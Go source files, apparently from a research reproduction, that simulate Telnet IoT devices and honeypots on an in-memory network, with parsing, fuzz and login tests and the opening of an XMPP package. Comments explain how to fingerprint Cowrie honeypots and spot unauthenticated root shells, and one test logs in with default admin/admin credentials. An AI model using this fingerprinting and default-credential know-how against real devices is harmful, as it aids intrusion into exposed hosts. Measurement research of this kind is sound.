func awaitSubstring(ctx context.Context, conn net.Conn, needles ...string) error {
	_, err := awaitAny(ctx, conn, needles...)
	return err
}

// awaitAny reads until one of the needles appears, returning which.
func awaitAny(ctx context.Context, conn net.Conn, needles ...string) (string, error) {
	var seen []byte
	scratch := netsim.GetScratch()
	defer netsim.PutScratch(scratch)
	buf := (*scratch)[:1024] // read in the same chunk sizes as before pooling
	for {
		if ctx.Err() != nil {
			return "", ctx.Err()
		}
		n, err := conn.Read(buf)
		if n > 0 {
			data, cmds := SplitStream(buf[:n])
			if reply := RefuseAll(cmds); len(reply) > 0 {
				if _, werr := conn.Write(reply); werr != nil {
					return "", werr
				}
			}
			seen = append(seen, data...)
			for _, needle := range needles {
				if needle != "" && indexOf(seen, needle) >= 0 {
					return needle, nil
				}
			}
		}
		if err != nil {
			return "", err
		}
	}
}

func containsAny(s []byte, needles ...string) bool {
	for _, n := range needles {
		if n != "" && indexOf(s, n) >= 0 {
			return true
		}
	}
	return false
}

func indexOf(s []byte, sub string) int {
	for i := 0; i+len(sub) <= len(s); i++ {
		if string(s[i:i+len(sub)]) == sub {
			return i
		}
	}
	return -1
}
