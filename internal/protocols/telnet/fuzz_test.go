package telnet

import (
	"bytes"
	"testing"
)

// FuzzSplitStream feeds arbitrary byte streams — including the truncated
// banner prefixes a tarpitted connection delivers — through the full
// client-side parse path: stream splitting, negotiation responses and prompt
// detection must never panic, and the invariants below must hold for any
// input.
func FuzzSplitStream(f *testing.F) {
	f.Add([]byte("login: "))
	f.Add([]byte{})
	f.Add([]byte{IAC})                                         // lone IAC at end
	f.Add([]byte{IAC, DO})                                     // truncated negotiation
	f.Add([]byte{IAC, DO, OptEcho, 'h', 'i'})                  // complete negotiation
	f.Add([]byte{IAC, WILL, OptSuppressGoAhead, IAC, IAC})     // escaped IAC data
	f.Add([]byte{IAC, SB, OptTerminalType, 1, 2, 3})           // unterminated subneg
	f.Add([]byte{IAC, SB, OptNAWS, 0, 80, 0, 24, IAC, SE})     // complete subneg
	f.Add([]byte{'B', 'u', 's', 'y', 'B', 'o', 'x', IAC, 241}) // lone command mid-banner
	f.Add(append(bytes.Repeat([]byte{IAC, DO, OptLinemode}, 8), "root@device:~$ "...))

	f.Fuzz(func(t *testing.T, raw []byte) {
		data, cmds := SplitStream(raw)
		if len(data) > len(raw) {
			t.Fatalf("data grew: %d bytes out of %d in", len(data), len(raw))
		}
		for _, c := range cmds {
			if c.Verb != DO && c.Verb != DONT && c.Verb != WILL && c.Verb != WONT {
				t.Fatalf("impossible verb %d in parsed command", c.Verb)
			}
		}
		// A passive client must be able to answer any parsed negotiation.
		reply := RefuseAll(cmds)
		if len(reply) > 3*len(cmds) {
			t.Fatalf("refusal reply %d bytes for %d commands", len(reply), len(cmds))
		}
		// Prompt detection runs on whatever data survived — a partial banner
		// cut mid-prompt must be handled, not panic.
		_ = bannerComplete(data)
	})
}

// FuzzEscapeRoundTrip asserts the data plane is lossless for any payload:
// escaping then splitting returns the original bytes and never synthesizes
// negotiation commands.
func FuzzEscapeRoundTrip(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{IAC})
	f.Add([]byte{IAC, IAC, IAC})
	f.Add([]byte("plain text with\xffstuffed\xffbytes"))

	f.Fuzz(func(t *testing.T, payload []byte) {
		data, cmds := SplitStream(EscapeData(payload))
		if !bytes.Equal(data, payload) {
			t.Fatalf("round trip mangled payload: %q -> %q", payload, data)
		}
		if len(cmds) != 0 {
			t.Fatalf("escaped payload parsed as %d negotiation commands", len(cmds))
		}
	})
}
