// Package telnet implements the Telnet protocol (RFC 854) at the level the
// study needs: real IAC option negotiation on the wire, a server with a
// login state machine driving IoT device and honeypot profiles, and a
// banner-grabbing client equivalent to the paper's ZMap/ZGrab Telnet probe.
//
// Telnet is the most attacked protocol in the study (Tables 4, 5, 8): Mirai
// and its descendants brute-force Telnet with default credentials, and the
// paper identifies misconfigured devices by prompt substrings such as "$",
// "root@xxx:~$" and "admin@xxx:~$" in the unauthenticated banner.
package telnet

import "bytes"

// Telnet command bytes (RFC 854).
const (
	IAC  = 255 // interpret as command
	DONT = 254
	DO   = 253
	WONT = 252
	WILL = 251
	SB   = 250 // subnegotiation begin
	SE   = 240 // subnegotiation end
)

// Telnet option codes used by real IoT devices and honeypots.
const (
	OptEcho            = 1
	OptSuppressGoAhead = 3
	OptTerminalType    = 24
	OptNAWS            = 31 // window size
	OptLinemode        = 34
)

// Ports scanned for Telnet. The paper probes both 23 and 2323 (Section 4.1.1),
// which is one reason its host counts exceed Project Sonar's.
var Ports = []uint16{23, 2323}

// Command is a single parsed IAC negotiation command.
type Command struct {
	Verb   byte // DO, DONT, WILL, WONT
	Option byte
}

// SplitStream separates raw Telnet bytes into negotiation commands and
// plain application data. Subnegotiations are consumed and discarded; an
// escaped IAC (IAC IAC) yields a literal 0xFF data byte. Incomplete trailing
// sequences are dropped, which is acceptable for banner analysis.
func SplitStream(raw []byte) (data []byte, cmds []Command) {
	for i := 0; i < len(raw); {
		if raw[i] != IAC {
			data = append(data, raw[i])
			i++
			continue
		}
		if i+1 >= len(raw) {
			break
		}
		switch raw[i+1] {
		case IAC:
			data = append(data, IAC)
			i += 2
		case DO, DONT, WILL, WONT:
			if i+2 >= len(raw) {
				return data, cmds
			}
			cmds = append(cmds, Command{Verb: raw[i+1], Option: raw[i+2]})
			i += 3
		case SB:
			end := bytes.Index(raw[i+2:], []byte{IAC, SE})
			if end < 0 {
				return data, cmds
			}
			i += 2 + end + 2
		default:
			i += 2 // lone command (NOP, GA, ...)
		}
	}
	return data, cmds
}

// Negotiate builds the IAC sequence for a verb/option pair.
func Negotiate(verb, option byte) []byte {
	return []byte{IAC, verb, option}
}

// RefuseAll produces the passive responses a banner-grabbing client sends to
// negotiation commands: refuse everything the server asks for, acknowledge
// nothing. DO → WONT, WILL → DONT; DONT/WONT need no reply.
func RefuseAll(cmds []Command) []byte {
	var out []byte
	for _, c := range cmds {
		switch c.Verb {
		case DO:
			out = append(out, IAC, WONT, c.Option)
		case WILL:
			out = append(out, IAC, DONT, c.Option)
		}
	}
	return out
}

// EscapeData doubles IAC bytes so payload data transits a Telnet stream
// unmodified.
func EscapeData(p []byte) []byte {
	if bytes.IndexByte(p, IAC) < 0 {
		return p
	}
	out := make([]byte, 0, len(p)+4)
	for _, b := range p {
		if b == IAC {
			out = append(out, IAC, IAC)
			continue
		}
		out = append(out, b)
	}
	return out
}
