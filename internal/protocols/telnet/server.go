package telnet

import (
	"context"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// AuthMode describes how a Telnet endpoint gates access. The paper's
// misconfiguration classes (Table 2) map directly onto these modes.
type AuthMode uint8

// Authentication modes.
const (
	// AuthNone drops the caller straight into a shell prompt — the
	// "No auth, console access" misconfiguration.
	AuthNone AuthMode = iota
	// AuthNoneRoot drops the caller into a root shell — "No auth, root
	// console access".
	AuthNoneRoot
	// AuthLogin requires username/password through a login: prompt.
	AuthLogin
)

// Event reports one completed Telnet session to the owner of the server
// (honeypots log these as attack events).
type Event struct {
	Time     time.Time
	Remote   netsim.IPv4
	Username string
	Password string
	LoginOK  bool
	Commands []string // shell commands issued after login
	RawBytes int
}

// Config describes a Telnet endpoint: a real IoT device profile or a
// honeypot profile. The zero value is an unauthenticated BusyBox-ish shell.
type Config struct {
	// PreLoginBanner is sent immediately on connect, before any prompt.
	// Device identity leaks here (Table 11: "Welcome to ViewStation", ...).
	PreLoginBanner string
	// LoginPrompt is sent when Auth is AuthLogin ("login: ", "192.0.0.64 login:").
	LoginPrompt string
	// PasswordPrompt is sent after a username is received.
	PasswordPrompt string
	// ShellPrompt is the post-auth prompt ("$ ", "root@device:~$ ", "# ").
	ShellPrompt string
	// Auth selects the authentication mode.
	Auth AuthMode
	// Credentials maps username → password for AuthLogin endpoints.
	// An empty map rejects every attempt.
	Credentials map[string]string
	// AcceptAll admits any credential pair under AuthLogin — the Cowrie
	// honeypot behaviour (log the attempt, fake success).
	AcceptAll bool
	// NegotiateOptions, when true, opens with IAC WILL ECHO / WILL SGA as
	// BusyBox telnetd does. Honeypot fingerprints depend on these bytes
	// (Table 6: Cowrie's "\xff\xfd\x1f...").
	NegotiateOptions bool
	// RawNegotiation, when non-nil, replaces the default negotiation bytes;
	// honeypot profiles use it to reproduce their published banners exactly.
	RawNegotiation []byte
	// MaxLoginAttempts closes the session after this many failures (0 = 3).
	MaxLoginAttempts int
	// OnEvent, when non-nil, receives the session record at close.
	OnEvent func(Event)
	// Hostname is substituted for %h in prompts.
	Hostname string
	// CommandOutput maps a shell command to its canned output. Unknown
	// commands produce a BusyBox-style "not found" line.
	CommandOutput map[string]string
}

// Server serves Telnet sessions for a Config.
type Server struct {
	cfg Config
}

// NewServer returns a Server for cfg.
func NewServer(cfg Config) *Server {
	if cfg.MaxLoginAttempts == 0 {
		cfg.MaxLoginAttempts = 3
	}
	if cfg.LoginPrompt == "" {
		cfg.LoginPrompt = "login: "
	}
	if cfg.PasswordPrompt == "" {
		cfg.PasswordPrompt = "Password: "
	}
	if cfg.ShellPrompt == "" {
		cfg.ShellPrompt = "$ "
	}
	return &Server{cfg: cfg}
}

// expand substitutes prompt placeholders.
func (s *Server) expand(p string) string {
	return strings.ReplaceAll(p, "%h", s.cfg.Hostname)
}

// Serve implements netsim.StreamHandler by driving the session state machine
// over blocking reads — the same machine NewStepper hands to the discrete-
// event engine, so both execution paths produce identical byte streams and
// session events.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))
	netsim.ServeStepper(ctx, conn, s.NewStepper())
}

// NewStepper implements netsim.StepProvider: a fresh per-session state
// machine for the conversation engine.
func (s *Server) NewStepper() netsim.Stepper { return &serverStepper{s: s} }

// serverStepper session states.
const (
	stLogin uint8 = iota // awaiting username line
	stPass               // awaiting password line
	stShell              // awaiting shell command line
)

// IAC-filter states carried across input batches.
const (
	iacNone   uint8 = iota
	iacVerb         // consumed IAC, awaiting verb
	iacOption       // consumed IAC + DO/DONT/WILL/WONT, awaiting option byte
)

// serverStepper is one Telnet session as a resumable state machine. Output
// accumulates in out and is flushed at exactly the points the classic
// blocking loop called Flush, so write errors (tripped stream faults) cut
// the session at identical byte offsets.
type serverStepper struct {
	s        *Server
	ev       Event
	out      []byte // pending response bytes, flushed at prompt boundaries
	line     []byte // partial input line
	state    uint8
	iacState uint8
	user     string
	attempt  int
	emitted  bool
}

// Step implements netsim.Stepper.
func (t *serverStepper) Step(c *netsim.ServerConv, ev netsim.ConvEvent) netsim.StepVerdict {
	switch ev {
	case netsim.EvOpen:
		return t.open(c)
	case netsim.EvData:
		for {
			line, ok := t.feedLine(c)
			if !ok {
				return netsim.StepMore
			}
			if t.handleLine(c, line) == netsim.StepDone {
				return netsim.StepDone
			}
		}
	default:
		// EvEOF / EvBroken: a blocking readLine would have errored out of
		// the session loop here.
		return t.finish()
	}
}

// open sends negotiation, banner and the first prompt.
func (t *serverStepper) open(c *netsim.ServerConv) netsim.StepVerdict {
	t.ev.Time = c.DialTime()
	if ip, ok := c.RemoteIP(); ok {
		t.ev.Remote = ip
	}
	s := t.s
	// Option negotiation first: these raw bytes are exactly what ZGrab's
	// banner capture records, and what honeypot fingerprinting matches on.
	switch {
	case s.cfg.RawNegotiation != nil:
		t.out = append(t.out, s.cfg.RawNegotiation...)
	case s.cfg.NegotiateOptions:
		t.out = append(t.out, Negotiate(WILL, OptEcho)...)
		t.out = append(t.out, Negotiate(WILL, OptSuppressGoAhead)...)
	}
	if s.cfg.PreLoginBanner != "" {
		t.out = append(t.out, s.expand(s.cfg.PreLoginBanner)...)
	}
	switch s.cfg.Auth {
	case AuthNone, AuthNoneRoot:
		t.ev.LoginOK = true
		t.state = stShell
		t.out = append(t.out, s.expand(s.cfg.ShellPrompt)...)
	case AuthLogin:
		t.state = stLogin
		t.out = append(t.out, s.expand(s.cfg.LoginPrompt)...)
	}
	if !t.flush(c) {
		return t.finish()
	}
	return netsim.StepMore
}

// handleLine advances the session by one completed input line.
func (t *serverStepper) handleLine(c *netsim.ServerConv, line string) netsim.StepVerdict {
	s := t.s
	switch t.state {
	case stLogin:
		t.user = line
		t.out = append(t.out, s.expand(s.cfg.PasswordPrompt)...)
		if !t.flush(c) {
			return t.finish()
		}
		t.state = stPass

	case stPass:
		t.ev.Username, t.ev.Password = t.user, line
		want, ok := s.cfg.Credentials[t.user]
		t.attempt++
		if s.cfg.AcceptAll || (ok && want == line) {
			t.ev.LoginOK = true
			t.state = stShell
			t.out = append(t.out, s.expand(s.cfg.ShellPrompt)...)
			if !t.flush(c) {
				return t.finish()
			}
			break
		}
		t.out = append(t.out, "\r\nLogin incorrect\r\n"...)
		if t.attempt >= s.cfg.MaxLoginAttempts {
			t.flush(c)
			return t.finish()
		}
		t.out = append(t.out, s.expand(s.cfg.LoginPrompt)...)
		if !t.flush(c) {
			return t.finish()
		}
		t.state = stLogin

	case stShell:
		cmd := strings.TrimSpace(line)
		if cmd == "" {
			t.out = append(t.out, s.expand(s.cfg.ShellPrompt)...)
			if !t.flush(c) {
				return t.finish()
			}
			break
		}
		t.ev.Commands = append(t.ev.Commands, cmd)
		switch cmd {
		case "exit", "quit", "logout":
			t.flush(c)
			return t.finish()
		default:
			if out, ok := s.cfg.CommandOutput[cmd]; ok {
				t.out = append(t.out, out...)
				if !strings.HasSuffix(out, "\n") {
					t.out = append(t.out, "\r\n"...)
				}
			} else {
				name := cmd
				if sp := strings.IndexByte(name, ' '); sp > 0 {
					name = name[:sp]
				}
				t.out = append(t.out, "-sh: "+name+": not found\r\n"...)
			}
		}
		if len(t.ev.Commands) >= 64 { // bound runaway sessions
			// The blocking loop returned here before its next Flush, so the
			// final command's output was never delivered; drop it the same way.
			t.out = t.out[:0]
			return t.finish()
		}
		t.out = append(t.out, s.expand(s.cfg.ShellPrompt)...)
		if !t.flush(c) {
			return t.finish()
		}
	}
	return netsim.StepMore
}

// feedLine consumes input toward one CR/LF-terminated line, filtering IAC
// negotiation and accounting raw bytes, carrying partial-line and partial-
// IAC state across batches. ok is false when input ran out mid-line.
func (t *serverStepper) feedLine(c *netsim.ServerConv) (string, bool) {
	in := c.Input()
	n := 0
	for _, b := range in {
		n++
		t.ev.RawBytes++
		switch {
		case t.iacState == iacVerb:
			switch b {
			case DO, DONT, WILL, WONT:
				t.iacState = iacOption
			case IAC:
				t.line = append(t.line, IAC)
				t.iacState = iacNone
			default:
				t.iacState = iacNone
			}
		case t.iacState == iacOption:
			t.iacState = iacNone
		case b == IAC:
			t.iacState = iacVerb
		case b == '\n':
			c.Consume(n)
			line := string(t.line)
			t.line = t.line[:0]
			return line, true
		default:
			if b != '\r' {
				t.line = append(t.line, b)
			}
			if len(t.line) > 512 {
				// Overlong line: hand it over without consuming a terminator.
				c.Consume(n)
				line := string(t.line)
				t.line = t.line[:0]
				return line, true
			}
		}
	}
	c.Consume(n)
	return "", false
}

// flush delivers the pending output in one write, reporting false on a dead
// or faulted transport (the blocking loop's Flush-error returns).
func (t *serverStepper) flush(c *netsim.ServerConv) bool {
	if len(t.out) == 0 {
		return true
	}
	_, err := c.Write(t.out)
	t.out = t.out[:0]
	return err == nil
}

// finish emits the session event exactly once and ends the conversation.
func (t *serverStepper) finish() netsim.StepVerdict {
	if !t.emitted {
		t.emitted = true
		if t.s.cfg.OnEvent != nil {
			t.s.cfg.OnEvent(t.ev)
		}
	}
	return netsim.StepDone
}
