package telnet

import (
	"bufio"
	"context"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// AuthMode describes how a Telnet endpoint gates access. The paper's
// misconfiguration classes (Table 2) map directly onto these modes.
type AuthMode uint8

// Authentication modes.
const (
	// AuthNone drops the caller straight into a shell prompt — the
	// "No auth, console access" misconfiguration.
	AuthNone AuthMode = iota
	// AuthNoneRoot drops the caller into a root shell — "No auth, root
	// console access".
	AuthNoneRoot
	// AuthLogin requires username/password through a login: prompt.
	AuthLogin
)

// Event reports one completed Telnet session to the owner of the server
// (honeypots log these as attack events).
type Event struct {
	Time     time.Time
	Remote   netsim.IPv4
	Username string
	Password string
	LoginOK  bool
	Commands []string // shell commands issued after login
	RawBytes int
}

// Config describes a Telnet endpoint: a real IoT device profile or a
// honeypot profile. The zero value is an unauthenticated BusyBox-ish shell.
type Config struct {
	// PreLoginBanner is sent immediately on connect, before any prompt.
	// Device identity leaks here (Table 11: "Welcome to ViewStation", ...).
	PreLoginBanner string
	// LoginPrompt is sent when Auth is AuthLogin ("login: ", "192.0.0.64 login:").
	LoginPrompt string
	// PasswordPrompt is sent after a username is received.
	PasswordPrompt string
	// ShellPrompt is the post-auth prompt ("$ ", "root@device:~$ ", "# ").
	ShellPrompt string
	// Auth selects the authentication mode.
	Auth AuthMode
	// Credentials maps username → password for AuthLogin endpoints.
	// An empty map rejects every attempt.
	Credentials map[string]string
	// AcceptAll admits any credential pair under AuthLogin — the Cowrie
	// honeypot behaviour (log the attempt, fake success).
	AcceptAll bool
	// NegotiateOptions, when true, opens with IAC WILL ECHO / WILL SGA as
	// BusyBox telnetd does. Honeypot fingerprints depend on these bytes
	// (Table 6: Cowrie's "\xff\xfd\x1f...").
	NegotiateOptions bool
	// RawNegotiation, when non-nil, replaces the default negotiation bytes;
	// honeypot profiles use it to reproduce their published banners exactly.
	RawNegotiation []byte
	// MaxLoginAttempts closes the session after this many failures (0 = 3).
	MaxLoginAttempts int
	// OnEvent, when non-nil, receives the session record at close.
	OnEvent func(Event)
	// Hostname is substituted for %h in prompts.
	Hostname string
	// CommandOutput maps a shell command to its canned output. Unknown
	// commands produce a BusyBox-style "not found" line.
	CommandOutput map[string]string
}

// Server serves Telnet sessions for a Config.
type Server struct {
	cfg Config
}

// NewServer returns a Server for cfg.
func NewServer(cfg Config) *Server {
	if cfg.MaxLoginAttempts == 0 {
		cfg.MaxLoginAttempts = 3
	}
	if cfg.LoginPrompt == "" {
		cfg.LoginPrompt = "login: "
	}
	if cfg.PasswordPrompt == "" {
		cfg.PasswordPrompt = "Password: "
	}
	if cfg.ShellPrompt == "" {
		cfg.ShellPrompt = "$ "
	}
	return &Server{cfg: cfg}
}

// expand substitutes prompt placeholders.
func (s *Server) expand(p string) string {
	return strings.ReplaceAll(p, "%h", s.cfg.Hostname)
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	ev := Event{Time: conn.DialTime}
	if ip, ok := netsim.RemoteIPv4(conn); ok {
		ev.Remote = ip
	}
	defer func() {
		if s.cfg.OnEvent != nil {
			s.cfg.OnEvent(ev)
		}
	}()

	w := bufio.NewWriter(conn)
	r := bufio.NewReader(conn)
	_ = conn.SetDeadline(time.Now().Add(10 * time.Second))

	// Option negotiation first: these raw bytes are exactly what ZGrab's
	// banner capture records, and what honeypot fingerprinting matches on.
	switch {
	case s.cfg.RawNegotiation != nil:
		_, _ = w.Write(s.cfg.RawNegotiation)
	case s.cfg.NegotiateOptions:
		_, _ = w.Write(Negotiate(WILL, OptEcho))
		_, _ = w.Write(Negotiate(WILL, OptSuppressGoAhead))
	}
	if s.cfg.PreLoginBanner != "" {
		_, _ = w.WriteString(s.expand(s.cfg.PreLoginBanner))
	}

	authed := false
	switch s.cfg.Auth {
	case AuthNone, AuthNoneRoot:
		authed = true
		ev.LoginOK = true
	case AuthLogin:
		for attempt := 0; attempt < s.cfg.MaxLoginAttempts; attempt++ {
			_, _ = w.WriteString(s.expand(s.cfg.LoginPrompt))
			if w.Flush() != nil {
				return
			}
			user, err := readLine(r, &ev)
			if err != nil {
				return
			}
			_, _ = w.WriteString(s.expand(s.cfg.PasswordPrompt))
			if w.Flush() != nil {
				return
			}
			pass, err := readLine(r, &ev)
			if err != nil {
				return
			}
			ev.Username, ev.Password = user, pass
			want, ok := s.cfg.Credentials[user]
			if s.cfg.AcceptAll || (ok && want == pass) {
				authed = true
				ev.LoginOK = true
				break
			}
			_, _ = w.WriteString("\r\nLogin incorrect\r\n")
		}
	}
	if !authed {
		_ = w.Flush()
		return
	}

	// Shell loop: echo a prompt, consume a command, reply.
	for {
		_, _ = w.WriteString(s.expand(s.cfg.ShellPrompt))
		if w.Flush() != nil {
			return
		}
		line, err := readLine(r, &ev)
		if err != nil {
			return
		}
		cmd := strings.TrimSpace(line)
		if cmd == "" {
			continue
		}
		ev.Commands = append(ev.Commands, cmd)
		switch cmd {
		case "exit", "quit", "logout":
			_ = w.Flush()
			return
		default:
			if out, ok := s.cfg.CommandOutput[cmd]; ok {
				_, _ = w.WriteString(out)
				if !strings.HasSuffix(out, "\n") {
					_, _ = w.WriteString("\r\n")
				}
			} else {
				name := cmd
				if sp := strings.IndexByte(name, ' '); sp > 0 {
					name = name[:sp]
				}
				_, _ = w.WriteString("-sh: " + name + ": not found\r\n")
			}
		}
		if len(ev.Commands) >= 64 { // bound runaway sessions
			return
		}
	}
}

// readLine reads one CR/LF-terminated line, filtering IAC negotiation and
// accounting raw bytes into the event.
func readLine(r *bufio.Reader, ev *Event) (string, error) {
	var line []byte
	for {
		b, err := r.ReadByte()
		if err != nil {
			return "", err
		}
		ev.RawBytes++
		if b == IAC {
			// Consume a client negotiation command (verb + option).
			verb, err := r.ReadByte()
			if err != nil {
				return "", err
			}
			ev.RawBytes++
			switch verb {
			case DO, DONT, WILL, WONT:
				if _, err := r.ReadByte(); err != nil {
					return "", err
				}
				ev.RawBytes++
			case IAC:
				line = append(line, IAC)
			}
			continue
		}
		if b == '\n' {
			return strings.TrimRight(string(line), "\r"), nil
		}
		if b != '\r' {
			line = append(line, b)
		}
		if len(line) > 512 {
			return string(line), nil
		}
	}
}
