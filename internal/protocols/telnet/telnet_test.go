package telnet

import (
	"bytes"
	"context"
	"strings"
	"testing"
	"testing/quick"
	"time"

	"openhire/internal/netsim"
)

func TestSplitStreamPlainData(t *testing.T) {
	data, cmds := SplitStream([]byte("hello"))
	if string(data) != "hello" || len(cmds) != 0 {
		t.Fatalf("got %q, %v", data, cmds)
	}
}

func TestSplitStreamNegotiation(t *testing.T) {
	raw := []byte{IAC, WILL, OptEcho, 'h', 'i', IAC, DO, OptNAWS}
	data, cmds := SplitStream(raw)
	if string(data) != "hi" {
		t.Fatalf("data = %q", data)
	}
	if len(cmds) != 2 || cmds[0] != (Command{WILL, OptEcho}) || cmds[1] != (Command{DO, OptNAWS}) {
		t.Fatalf("cmds = %v", cmds)
	}
}

func TestSplitStreamEscapedIAC(t *testing.T) {
	data, _ := SplitStream([]byte{'a', IAC, IAC, 'b'})
	if !bytes.Equal(data, []byte{'a', IAC, 'b'}) {
		t.Fatalf("data = %v", data)
	}
}

func TestSplitStreamSubnegotiation(t *testing.T) {
	raw := []byte{IAC, SB, OptTerminalType, 1, IAC, SE, 'x'}
	data, cmds := SplitStream(raw)
	if string(data) != "x" || len(cmds) != 0 {
		t.Fatalf("data=%q cmds=%v", data, cmds)
	}
}

func TestSplitStreamTruncated(t *testing.T) {
	// Incomplete sequences must not panic and must keep prior data.
	for _, raw := range [][]byte{
		{IAC},
		{'a', IAC, DO},
		{IAC, SB, OptNAWS, 0, 0}, // unterminated subnegotiation
	} {
		data, _ := SplitStream(raw)
		_ = data // no panic is the requirement
	}
}

func TestEscapeRoundTrip(t *testing.T) {
	if err := quick.Check(func(p []byte) bool {
		data, _ := SplitStream(EscapeData(p))
		return bytes.Equal(data, p)
	}, nil); err != nil {
		t.Fatal(err)
	}
}

func TestRefuseAll(t *testing.T) {
	reply := RefuseAll([]Command{{DO, OptEcho}, {WILL, OptSuppressGoAhead}, {DONT, OptNAWS}})
	want := []byte{IAC, WONT, OptEcho, IAC, DONT, OptSuppressGoAhead}
	if !bytes.Equal(reply, want) {
		t.Fatalf("reply = %v, want %v", reply, want)
	}
}

// startServer starts a telnet server on an in-memory conn pair and returns
// the client side.
func startServer(t *testing.T, cfg Config) *netsim.ServiceConn {
	t.Helper()
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.1"), Port: 40000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.1"), Port: 23},
		time.Now(),
	)
	srv := NewServer(cfg)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	return client
}

func TestGrabUnauthedBanner(t *testing.T) {
	client := startServer(t, Config{
		Auth:        AuthNoneRoot,
		ShellPrompt: "root@dvr:~$ ",
	})
	defer client.Close()
	b, err := Grab(context.Background(), client, 200*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(b.Text, "root@dvr:~$") {
		t.Fatalf("banner %q missing root prompt", b.Text)
	}
}

func TestGrabNegotiationBytesPreserved(t *testing.T) {
	client := startServer(t, Config{
		Auth:             AuthLogin,
		NegotiateOptions: true,
		LoginPrompt:      "login: ",
	})
	defer client.Close()
	b, err := Grab(context.Background(), client, 200*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Raw, []byte{IAC, WILL, OptEcho}) {
		t.Fatalf("raw banner %v missing negotiation prefix", b.Raw[:minInt(6, len(b.Raw))])
	}
	if !strings.Contains(b.Text, "login:") {
		t.Fatalf("text %q missing login prompt", b.Text)
	}
	if len(b.Commands) == 0 {
		t.Fatal("no negotiation commands parsed")
	}
}

func TestGrabRawNegotiationProfile(t *testing.T) {
	// Cowrie's published fingerprint: \xff\xfd\x1f then login: (Table 6).
	client := startServer(t, Config{
		Auth:           AuthLogin,
		RawNegotiation: []byte{IAC, DO, OptNAWS},
		LoginPrompt:    "login: ",
	})
	defer client.Close()
	b, err := Grab(context.Background(), client, 200*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.HasPrefix(b.Raw, []byte{0xff, 0xfd, 0x1f}) {
		t.Fatalf("raw = %v", b.Raw)
	}
}

func TestLoginSuccess(t *testing.T) {
	var got Event
	client := startServer(t, Config{
		Auth:        AuthLogin,
		Credentials: map[string]string{"admin": "admin"},
		ShellPrompt: "$ ",
		OnEvent:     func(ev Event) { got = ev },
	})
	ok, err := Login(context.Background(), client, "admin", "admin", time.Second)
	if err != nil || !ok {
		t.Fatalf("Login = %v, %v", ok, err)
	}
	out, err := Exec(client, "cat /proc/cpuinfo", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "not found") {
		t.Fatalf("unknown command output %q", out)
	}
	client.Close()
	waitFor(t, func() bool { return got.LoginOK })
	if got.Username != "admin" || got.Password != "admin" {
		t.Fatalf("event = %+v", got)
	}
	if len(got.Commands) != 1 || got.Commands[0] != "cat /proc/cpuinfo" {
		t.Fatalf("commands = %v", got.Commands)
	}
}

func TestLoginFailure(t *testing.T) {
	client := startServer(t, Config{
		Auth:        AuthLogin,
		Credentials: map[string]string{"admin": "secret"},
	})
	defer client.Close()
	ok, err := Login(context.Background(), client, "admin", "wrong", 500*time.Millisecond)
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Fatal("wrong password accepted")
	}
}

func TestLoginAttemptsBounded(t *testing.T) {
	events := make(chan Event, 1)
	client := startServer(t, Config{
		Auth:             AuthLogin,
		Credentials:      map[string]string{},
		MaxLoginAttempts: 2,
		OnEvent:          func(ev Event) { events <- ev },
	})
	defer client.Close()
	// Two failed attempts, written proactively: the server consumes
	// username/password pairs in order regardless of prompt pacing.
	if _, err := client.Write([]byte("a\r\nb\r\na\r\nb\r\n")); err != nil {
		t.Fatal(err)
	}
	select {
	case ev := <-events:
		if ev.LoginOK {
			t.Fatal("empty credential map accepted a login")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("server did not close after max attempts")
	}
}

func TestCommandOutput(t *testing.T) {
	client := startServer(t, Config{
		Auth:          AuthNone,
		CommandOutput: map[string]string{"uname -a": "Linux dvr 3.10.0 armv7l"},
	})
	defer client.Close()
	if _, err := Grab(context.Background(), client, 100*time.Millisecond); err != nil {
		t.Fatal(err)
	}
	out, err := Exec(client, "uname -a", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "Linux dvr") {
		t.Fatalf("output %q", out)
	}
}

func TestExitClosesSession(t *testing.T) {
	client := startServer(t, Config{Auth: AuthNone})
	defer client.Close()
	_, _ = Grab(context.Background(), client, 100*time.Millisecond)
	_, _ = Exec(client, "exit", 500*time.Millisecond)
	_ = client.SetReadDeadline(time.Now().Add(time.Second))
	buf := make([]byte, 64)
	for {
		if _, err := client.Read(buf); err != nil {
			return // EOF or deadline: session ended
		}
	}
}

func TestHostnameExpansion(t *testing.T) {
	client := startServer(t, Config{
		Auth:           AuthLogin,
		PreLoginBanner: "Welcome to %h\r\n",
		Hostname:       "DCS-6620",
	})
	defer client.Close()
	b, _ := Grab(context.Background(), client, 200*time.Millisecond)
	if !strings.Contains(b.Text, "Welcome to DCS-6620") {
		t.Fatalf("banner %q", b.Text)
	}
}

func minInt(a, b int) int {
	if a < b {
		return a
	}
	return b
}

func waitFor(t *testing.T, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		if cond() {
			return
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatal("condition not reached")
}
