// Package xmpp implements the XMPP stream preamble (RFC 6120): stream open,
// stream features with SASL mechanism advertisement, and enough of the SASL
// exchange for anonymous and plain logins.
//
// The paper scans client port 5222 and server port 5269 and classifies
// devices from the advertised mechanisms (Table 2): <mechanism>PLAIN</...>
// without mandatory TLS means credentials transit in clear text ("No
// encryption"), and <mechanism>ANONYMOUS</...> admits anyone ("No auth",
// the largest XMPP class in Table 5 with 143,986 devices). ThingPot's
// Philips Hue profile observed brute-force and anonymous state-change
// attempts on this protocol (Section 5.1.2).
package xmpp

import (
	"encoding/base64"
	"fmt"
	"strings"
)

